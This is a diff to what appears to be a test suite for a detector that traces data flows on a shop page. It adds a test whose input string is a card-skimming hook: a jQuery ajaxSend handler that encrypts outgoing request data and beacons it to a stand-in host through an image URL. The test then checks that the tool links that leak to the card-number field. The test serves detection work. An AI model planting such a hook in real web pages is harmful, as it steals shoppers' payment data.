@@ -65,6 +65,13 @@ describe('emulator: the shop at work', () => {
     assert.ok(summarise(trace).flows.some(({ field }) => field === 'card-number'));
   });
 
+  it('proves by another shopper what a hook sends enciphered', async () => {
+    const [flow] = await flowsOf(
+      "$(document).ajaxSend(function (e, x, s) { new Image().src = 'https://c.example/p?' + CryptoJS.AES.encrypt(s.data, 'k') })",
+    );
+    assert.deepEqual([flow?.field, flow?.proof], ['card-number', 'dependence']);
+  });
+
   it('keeps still where nothing was replaced', async () => {
     const trace = await run("document.addEventListener('click', function () { fetch('/ping') })");
     assert.deepEqual(eventsOf(trace, 'shop-request'), []);
